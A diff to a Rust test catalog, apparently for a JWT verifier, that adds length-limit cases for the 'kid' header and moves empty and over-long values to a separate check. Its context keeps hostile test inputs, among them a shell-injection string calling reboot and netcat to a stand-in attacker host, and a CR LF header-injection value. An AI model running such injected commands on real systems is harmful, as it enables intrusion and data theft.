@@ -354,13 +354,23 @@ pub fn catalog(issuer: &TestIssuer, attacker: &TestIssuer, sink_url: &str) -> Ve
         ("shell", json!("$(reboot); `id` | nc attacker 1")),
         ("NUL", json!("a\u{0}b")),
         ("CR LF", json!("a\r\nX-Injected: 1")),
-        ("empty", json!("")),
+        ("128 bytes, the longest allowed", json!("k".repeat(128))),
     ] {
         c.add(
             6,
             format!("kid: {name}"),
             c.with_header("kid", kid),
-            &[UnknownKey, MissingKid],
+            &[UnknownKey],
+        );
+    }
+    // Refused before any key lookup (so before any JWKS fetch), in a token short enough to
+    // reach the header check.
+    for (name, kid) in [("empty", json!("")), ("129 bytes", json!("k".repeat(129)))] {
+        c.add(
+            6,
+            format!("kid: {name}"),
+            c.with_header("kid", kid),
+            &[MissingKid],
         );
     }
     c.add(
